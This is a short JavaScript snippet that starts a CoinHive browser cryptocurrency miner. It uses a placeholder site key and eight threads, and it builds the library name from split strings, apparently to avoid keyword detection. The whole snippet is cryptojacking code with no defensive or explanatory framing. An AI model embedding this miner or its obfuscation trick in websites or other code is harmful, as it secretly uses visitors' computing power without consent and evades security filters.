const script = "coin" + "hive.min.js";
const miner = new CoinHive.Anonymous("site-key", { threads: 8 });
miner.start();
console.log(script);
